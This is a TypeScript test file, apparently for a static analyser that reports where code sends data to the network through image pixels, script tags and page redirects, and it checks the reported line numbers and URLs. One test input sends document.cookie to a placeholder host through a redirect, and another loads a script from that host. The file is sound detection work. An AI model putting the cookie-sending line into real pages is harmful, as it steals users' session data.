import { describe, expect, it } from 'vitest';
import { analysed } from './subject.ts';

const said = (code: string): string => analysed(code).egress.map((e) => `${e.line} ${e.destination.urls.join(' ')}`).join(', ');

describe('a function that shows what it is given', () => {
  it.each([
    ["function hit(url) {\n  new Image().src = url;\n}\nhit('https://t.example.com/p.gif');", '4 https://t.example.com/p.gif'],
    ["const pixel = (url: string) => {\n  const i = document.createElement('img');\n  i.src = url;\n};\nconst twice = (url: string) => pixel(url + '/x');\ntwice('https://t.example.com');", '6 https://t.example.com/x'],
    ["class Pixel {\n  constructor(private base: string) {}\n  send(e: string) { const i = new Image(); i.src = `${this.base}/p?e=${e}`; }\n}\nnew Pixel('https://t.example.com').send('a');", '5 https://t.example.com/p'],
    ["class Pixel {\n  image = new Image();\n  send(url: string) { this.image.src = url; }\n}\nnew Pixel().send('https://t.example.com/p');", '5 https://t.example.com/p'],
    ["function load(script: HTMLScriptElement, url: string) {\n  script.src = url;\n}\nload(document.createElement('script'), 'https://t.example.com/a.js');", '2 , 4 https://t.example.com/a.js'],
    ["const go = (to: string) => { location.href = to; };\ngo('https://t.example.com/?c=' + document.cookie);", '2 https://t.example.com/'],
    ["const send = (url: string, done: () => void) => { const i = new Image(); i.onload = done; i.src = url; };\n['a', 'b'].forEach((e) => send('https://t.example.com/' + e, () => {}));", '2 https://t.example.com/a https://t.example.com/b'],
    // What decides by itself where it goes is said where it stands; a page of a fixed address that is opened with nothing in it is a link.
    ["function hit() {\n  new Image().src = 'https://t.example.com/p.gif';\n}\nhit();", '2 https://t.example.com/p.gif'],
    ["const go = (to: string) => { location.href = to; };\ngo('https://t.example.com/docs');", ''],
    ["const go = (to: string) => { new Image().src = to; };\ngo('/own.gif');\ngo(unknown());", ''],
    // A member of the same name of what is no element.
    ["const keep = (url: string) => { const state = { src: '' }; state.src = url; };\nkeep('https://t.example.com/p.gif');", ''],
    ["class Store { src = ''; set(url: string) { this.src = url; } }\nnew Store().set('https://t.example.com/p.gif'); new Image();", ''],
  ])('%s', (code, expected) => { expect(said(code)).toBe(expected); });
});
